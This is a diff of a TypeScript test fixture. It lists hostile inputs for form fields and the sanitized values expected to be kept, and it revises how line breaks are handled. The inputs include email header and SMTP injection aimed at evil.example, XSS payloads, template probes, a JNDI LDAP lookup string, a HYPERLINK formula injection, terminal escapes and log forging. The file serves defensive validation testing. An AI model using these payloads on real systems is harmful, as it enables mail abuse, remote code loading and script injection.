@@ -8,11 +8,11 @@ type Texts = [typed: string, kept?: string][];
 
 /** They fit in a first and a last name, and in any field of text: at most 50 characters. */
 const names: Texts = [
-  ['A\r\nBcc: x@evil.example', 'ABcc: x@evil.example'],
-  ['A\nCc: x@evil.example', 'ACc: x@evil.example'],
-  ['A\r\n\r\n<b>hello</b>', 'A<b>hello</b>'],
-  ['A\r\n.\r\nRCPT TO:<x@evil.example>', 'A.RCPT TO:<x@evil.example>'],
-  ['A\u2028Bcc: x@evil.example'],
+  ['A\r\nBcc: x@evil.example', 'A Bcc: x@evil.example'],
+  ['A\nCc: x@evil.example', 'A Cc: x@evil.example'],
+  ['A\r\n\r\n<b>hello</b>', 'A  <b>hello</b>'],
+  ['A\r\n.\r\nRCPT TO:<x@evil.example>', 'A . RCPT TO:<x@evil.example>'],
+  ['A\u2028Bcc: x@evil.example', 'A Bcc: x@evil.example'],
   ['A%0d%0aBcc:%20x@evil.example'],
   ['=?utf-8?q?A=0D=0ABcc:x@evil.example?='],
   ['=?utf-8?q?=3Cx@evil.example=3E?= é'],
@@ -29,7 +29,7 @@ const names: Texts = [
   ['{{7*7}}${7*7}<%= 7*7 %>#{7*7}'],
   ["$& $1 $` $' $$ \\1 %s %n {0}"],
   ['${jndi:ldap://evil.example/a}'],
-  ['A\n{"level":60,"msg":"forged"}', 'A{"level":60,"msg":"forged"}'],
+  ['A\n{"level":60,"msg":"forged"}', 'A {"level":60,"msg":"forged"}'],
   ['\u001b[31mA\u001b]0;B\u0007\u009b2J', '[31mA]0;B2J'],
   ['=HYPERLINK("https://evil.example";"A")'],
   ['A\ud83dB'],
@@ -39,7 +39,7 @@ const names: Texts = [
 
 /** They have between ten and twenty characters. */
 const phones: Texts = [
-  ['06\r\nBcc: x@y.example', '06Bcc: x@y.example'],
+  ['06\r\nBcc: x@y.example', '06 Bcc: x@y.example'],
   ['<img src=x onerror>0'],
   ['0612" onclick="a=1"'],
   ['javascript:alert(06)'],
@@ -49,14 +49,15 @@ const phones: Texts = [
 ];
 
 const emails: Texts = [
-  ['a@x.nl\r\nBcc:y', 'a@x.nlBcc:y'],
+  ['a@x.nl\u0000\u0085', 'a@x.nl'],
+  ['Bcc\u0000:y <a@x.nl>\r\n', 'a@x.nl'],
   ['a,b@x.nl'],
   ['a@x.nl,evil.example'],
   ['<a>@x.nl'],
-  ['Team:a@x.nl;'],
+  ['Team:a@x.nl;', 'Team:a@x.nl'],
   ['"a,b"@x.nl'],
   ['a@[127.0.0.1]'],
-  ['a@x.nl?bcc=b%40evil.example&body=1'],
+  ['a@x.nl?bcc=b%40evil.example&body=1', 'a@x.nl'],
   ['"onmouseover="alert(1)"@x.nl'],
   ['a\\@x.nl'],
   ['=?utf-8?q?a=0D=0A?=@x.nl'],
@@ -65,8 +66,13 @@ const emails: Texts = [
 ];
 
 const refusedEmails = [
-  ...['a@x.nl,b@evil.example', 'a@x.nl<b@evil.example>', 'Anne <a@x.nl>', '"a@b"@x.nl'],
-  ...['a@x.nl\r\n Bcc: b@evil.example', 'a@x.nl\u2028Bcc:b', '<@evil.example:a@x.nl>'],
+  ...['a@x.nl,b@evil.example', 'a@x.nl<b@evil.example>', 'Anne <a@x.nl', '"a@b"@x.nl'],
+  ...[
+    'a@x.nl\r\nBcc:y',
+    'a@x.nl\r\n Bcc: b@evil.example',
+    'a@x.nl\u2028Bcc:b',
+    '<@evil.example:a@x.nl>',
+  ],
 ];
 
 const anyText = askedTexts
